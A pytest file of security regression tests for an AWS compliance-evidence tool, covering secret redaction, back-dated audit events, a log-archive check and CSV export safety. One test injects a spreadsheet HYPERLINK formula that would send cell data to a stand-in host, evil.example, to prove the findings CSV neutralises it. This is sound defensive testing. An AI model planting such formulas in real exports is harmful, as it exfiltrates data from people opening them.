"""Issue 15 attack pass (docs/security.md): hostile estates and insiders against the inputs issue 15
added — evidence redaction of the new collectors' records and of URLs, application audit events with
forged times, FAIL messages in CSV exports, and the log-archive check's parameter. Each test states
the defect it proves; xfail(strict) until the fix lands (then remove the marker)."""
import datetime as dt
import json
import shutil
from pathlib import Path

import pytest

from auditbook.collect.evidence import (
    clean_response,
    redact,
    redact_cloudtrail,
)
from auditbook.monitor.app_audit import AppIngestResult, _Reader
from auditbook.monitor.app_audit_config import AppAuditConfig
from auditbook.monitor.cloudtrail import Windows

ROOT = Path(__file__).resolve().parents[2]
SECRET = "s3cr3t-0rigin-verify-9f8e7d"


def _leaks(value, secret=SECRET) -> bool:
    return secret in json.dumps(value)


# -- 1. CloudFront origin custom headers: the CloudFront -> origin shared secret ------------------

def _distribution_config():
    return {"Origins": {"Quantity": 1, "Items": [{
        "Id": "alb", "DomainName": "alb.example.com",
        "CustomOriginConfig": {"HTTPPort": 80, "HTTPSPort": 443, "OriginProtocolPolicy": "https-only"},
        "CustomHeaders": {"Quantity": 1, "Items": [{"HeaderName": "X-Origin-Verify", "HeaderValue": SECRET}]}}]}}


def test_cloudfront_origin_custom_header_values_never_reach_evidence():
    listed = clean_response({"DistributionList": {"Items": [{"Id": "E1", **_distribution_config()}]}})
    got = clean_response({"DistributionConfig": _distribution_config(), "ETag": "E"})
    assert not _leaks(listed) and not _leaks(got)
    assert "X-Origin-Verify" in json.dumps(got)  # the header's name is kept: it is not the secret


def test_cloudfront_origin_custom_header_values_never_reach_cloudtrail_matches():
    record = {"eventSource": "cloudfront.amazonaws.com", "eventName": "UpdateDistribution",
              "requestParameters": {"distributionConfig": {"origins": {"items": [{"id": "alb", "customHeaders": {
                  "quantity": 1, "items": [{"headerName": "X-Origin-Verify", "headerValue": SECRET}]}}]}}}}
    assert not _leaks(redact_cloudtrail(record))


# -- 2. The same secret, matched by the origin's WAF web ACL ----------------------------------------

def test_waf_byte_match_search_strings_never_reach_evidence():
    import base64
    got = clean_response({"WebACL": {"Name": "alb", "Rules": [{"Name": "origin-verify", "Priority": 0, "Statement": {
        "ByteMatchStatement": {"SearchString": SECRET.encode(), "PositionalConstraint": "EXACTLY",
                               "FieldToMatch": {"SingleHeader": {"Name": "x-origin-verify"}},
                               "TextTransformations": [{"Priority": 0, "Type": "NONE"}]}}}]}})
    assert base64.b64encode(SECRET.encode()).decode() not in json.dumps(got) and not _leaks(got)


# -- 3. URLs with credentials that redact_url does not see ------------------------------------------

URL_IN_TEXT = [
    "fetched https://svc:hunter2@db.internal/x ok",   # a URL inside text (descriptions, app events)
    " https://svc:hunter2@db.internal/x",              # leading white space
    "https://svc:hunter2@db.internal/x and more",      # trailing text after a space
    "jdbc:postgresql://svc:hunter2@db.internal/app",   # a JDBC URL (scheme with a colon)
]


@pytest.mark.parametrize("text", URL_IN_TEXT)
def test_credentials_in_a_url_inside_text_never_reach_evidence(text):
    assert "hunter2" not in json.dumps(redact({"Description": text}))
    assert "hunter2" not in json.dumps(redact_cloudtrail({"eventSource": "app", "detail": text}))


# -- 4. Webhook tokens in the path, under keys other than Endpoint -----------------------------------

SLACK = "https://hooks.slack.com/services/T0000/B0000/XXXXXXXXXXXXXXXXXXXXXXXX"


def test_webhook_tokens_in_a_url_path_never_reach_cloudtrail_matches():
    record = {"eventSource": "events.amazonaws.com", "eventName": "CreateApiDestination",
              "requestParameters": {"name": "slack", "invocationEndpoint": SLACK, "httpMethod": "POST"}}
    assert "XXXXXXXXXXXXXXXXXXXXXXXX" not in json.dumps(redact_cloudtrail(record))
    assert "XXXXXXXXXXXXXXXXXXXXXXXX" not in json.dumps(redact({"InvocationEndpoint": SLACK}))


# -- 5. Application audit events dated long before they arrived ---------------------------------------

NOW = dt.datetime(2026, 11, 3, 12, 0, tzinfo=dt.timezone.utc)
CONFIG = AppAuditConfig.model_validate({"sources": [{"log_group": "/app/audit", "region": "us-east-1"}]})


def _row(own_time: str):
    where = {"source": "111111111111/us-east-1//app/audit", "account": "111111111111", "region": "us-east-1",
             "log_group": "/app/audit"}
    reader = _Reader(None, where, CONFIG, [], Windows(), NOW, AppIngestResult())
    message = json.dumps({"event_type": "system_change", "user": "mallory", "timestamp": own_time,
                          "action": "deploy", "outcome": "success", "resource": "prod"})
    arrived = int((NOW - dt.timedelta(minutes=1)).timestamp() * 1000)
    return reader.row(0, {"eventId": "e1", "timestamp": arrived, "ingestionTime": arrived, "message": message})


def test_an_event_dated_within_the_lag_of_its_arrival_is_read():
    row = _row("2026-11-03T11:55:00Z")
    assert row["unread"] is None and row["kind"] == "system_change"


def test_an_event_dated_long_before_it_reached_cloudwatch_is_an_evidence_gap():
    row = _row("2024-01-15T09:00:00Z")
    assert row["unread"] is not None and "2024-01-15" in row["unread"]
    assert row["at"] >= NOW - dt.timedelta(days=1)  # kept at its arrival, counted in the completeness


# -- 6. FAIL messages carry record values: the findings CSV must not hold a formula ------------------

def test_the_findings_csv_neutralises_a_formula_from_a_rendered_message():
    from auditbook.catalog.messages import compile_template
    from auditbook.cli.findings import _csv
    from auditbook.evaluate.observed import rendered
    message = rendered(compile_template("{Name} is open to the internet"),
                       {"Name": '=HYPERLINK("https://evil.example/?"&A1,"open")'})
    text = _csv([{"check": "c", "controls": ["CC6.1"], "status": "FAIL", "severity": "high", "account": "1",
                  "region": "r", "resource_type": "t", "resource": "=1+1", "message": message, "evidence": [],
                  "declared_criteria": [], "fails_declared": []}])
    cells = [c for line in text.splitlines()[1:] for c in line.split(",")]
    assert not any(c.lstrip('"').startswith(("=", "+", "-", "@")) for c in cells), text


# -- 7. The log-archive check with the company's log-archive account named ---------------------------

def _trail_finding(tmp_path, bucket_owned: bool):
    from auditbook.catalog.model import load_catalog
    from auditbook.collect.records import Collection, Record, Scope
    from auditbook.evaluate.evaluator import evaluate
    from collectors.cloudtrail import _destination
    for name in ("controls.yaml", "company-controls.yaml"):
        shutil.copy(ROOT / name, tmp_path / name)
    (tmp_path / "company-parameters.yaml").write_text(json.dumps(
        {"version": 1, "parameters": {"log_archive_account": "999999999999"}}))
    catalog = load_catalog(tmp_path / "controls.yaml")
    data = {"Name": "main", "TrailARN": "arn:aws:cloudtrail:us-east-1:111111111111:trail/main",
            "S3BucketName": "attacker-logs" if not bucket_owned else "local-logs"}
    _destination(data, {"own_buckets": [{"Name": "local-logs"}]})
    record = Record("aws.cloudtrail.trail", "111111111111", "us-east-1", "main", data["TrailARN"], data,
                    scope_region="us-east-1", name="main")
    collection = Collection(records=[record], scopes=[Scope("111111111111", "us-east-1", "aws.cloudtrail.trail")])
    return [f for f in evaluate(catalog, collection) if f.check == "cloudtrail-logs-in-log-archive-account"]


def test_a_trail_delivering_to_a_bucket_outside_the_named_log_archive_account_fails(tmp_path):
    [own] = _trail_finding(tmp_path, bucket_owned=True)
    assert own.status == "FAIL"  # control: the check reads the record
    [outsider] = _trail_finding(tmp_path, bucket_owned=False)
    assert outsider.status != "PASS", outsider.message
